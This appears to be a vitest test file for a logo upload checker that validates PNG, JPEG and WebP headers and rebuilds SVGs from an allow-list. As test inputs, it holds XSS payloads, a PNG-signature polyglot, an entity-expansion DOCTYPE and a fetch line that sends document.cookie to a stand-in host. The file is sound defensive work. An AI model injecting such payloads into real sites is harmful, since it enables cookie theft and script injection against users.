import { describe, expect, it } from 'vitest';
import { jpeg, png, webp } from '../../test/images';
import { HttpError } from '../../platform/http/errors';
import { checkLogo, rasterSize, sanitiseSvg } from './logo';

const refusal = (bytes: Buffer) => {
  try {
    checkLogo(bytes);
  } catch (error) {
    return error instanceof HttpError ? error.messageKey : String(error);
  }
  return 'accepted';
};

describe('raster logos, read on their bytes', () => {
  it('recognises PNG, JPEG and WebP and reads their size from the header', () => {
    expect(rasterSize(png(120, 40))).toEqual({ type: 'image/png', width: 120, height: 40 });
    expect(rasterSize(jpeg(300, 100))).toEqual({ type: 'image/jpeg', width: 300, height: 100 });
    expect(rasterSize(webp(64, 64))).toEqual({ type: 'image/webp', width: 64, height: 64 });
  });

  it('refuses a truncated PNG, an image too large or too small, a file too big, and what is not an image', () => {
    const whole = png(120, 40);
    expect(refusal(whole.subarray(0, whole.length - 12))).toBe('logo_not_image');
    expect(refusal(png(4000, 20))).toBe('logo_dimensions');
    expect(refusal(jpeg(8, 8))).toBe('logo_dimensions');
    expect(refusal(Buffer.concat([png(20, 20), Buffer.alloc(600 * 1024)]))).toBe('logo_too_large');
    expect(refusal(Buffer.from('<html><script>alert(1)</script></html>'))).toBe('logo_not_image');
    expect(refusal(Buffer.from('GIF89a\x01\x00\x01\x00'))).toBe('logo_not_image');
    // A PNG signature in front of a script is still not a PNG.
    expect(refusal(Buffer.concat([whole.subarray(0, 8), Buffer.from('<svg onload="alert(1)"/>')]))).toBe('logo_not_image');
    expect(checkLogo(whole)).toMatchObject({ mediaType: 'image/png', width: 120, height: 40, data: whole });
  });
});

describe('SVG logos, rebuilt from an allow-list', () => {
  const drawing = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><circle cx="5" cy="5" r="4" fill="#1a4f8b"/></svg>';

  it('keeps a plain drawing as it is', () => {
    expect(sanitiseSvg(`<?xml version="1.0"?>\n<!-- made by hand -->\n${drawing}\n`)).toBe(drawing);
    expect(sanitiseSvg('<svg viewBox="0 0 4 4"><text x="0" y="3">A &amp; B</text></svg>'))
      .toBe('<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 4 4"><text x="0" y="3">A &amp; B</text></svg>');
  });

  it('removes scripts, event handlers, foreignObject, styles, links and every reference outside the document', () => {
    const hostile = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="alert(1)" viewBox="0 0 10 10">
      <script>alert(document.cookie)</script>
      <script type="text/javascript"><![CDATA[ fetch('https://evil.example/' + document.cookie) ]]></script>
      <style>@import url(https://evil.example/x.css); circle { fill: url(https://evil.example/a) }</style>
      <foreignObject width="10" height="10"><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="https://evil.example"></iframe></body></foreignObject>
      <a href="javascript:alert(1)"><rect width="5" height="5"/></a>
      <image href="https://evil.example/track.png" width="1" height="1"/>
      <use xlink:href="https://evil.example/sprite.svg#icon"/>
      <use href="#shape"/>
      <circle id="shape" cx="5" cy="5" r="4" fill="url(https://evil.example/p)" stroke="url(#g)" onclick="alert(2)" style="behavior:url(x.htc)"/>
      <rect width="2" height="2" fill="&#106;avascript:alert(1)" ONMOUSEOVER="alert(3)"/>
      <animate attributeName="href" to="javascript:alert(1)"/>
      <set attributeName="onload" to="alert(1)"/>
    </svg>`;
    const clean = sanitiseSvg(hostile)!;
    expect(clean).not.toBeNull();
    for (const bad of ['script', 'alert', 'evil.example', 'foreignObject', 'iframe', 'style', 'onload', 'onclick', 'javascript', '<a', '<image', 'animate', '<set', 'ONMOUSEOVER']) {
      expect(clean.toLowerCase()).not.toContain(bad.toLowerCase());
    }
    // What is drawing stays: the local reference, the shapes, the internal gradient reference.
    expect(clean).toContain('<use href="#shape"/>');
    expect(clean).toContain('<circle id="shape" cx="5" cy="5" r="4" stroke="url(#g)"/>');
  });

  it('refuses what is not an SVG document: a DOCTYPE with entities, another root, unbalanced tags, text outside', () => {
    expect(sanitiseSvg('<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><svg>&b;</svg>')).toBeNull();
    expect(sanitiseSvg('<html><svg/></html>')).toBeNull();
    expect(sanitiseSvg('<svg><g></svg>')).toBeNull();
    expect(sanitiseSvg('<svg></svg><script>alert(1)</script>')).toBeNull();
    expect(sanitiseSvg('hello <svg></svg>')).toBeNull();
    expect(sanitiseSvg('<svg><rect width="1" < /></svg>')).toBeNull();
    expect(sanitiseSvg('plain text')).toBeNull();
  });
});
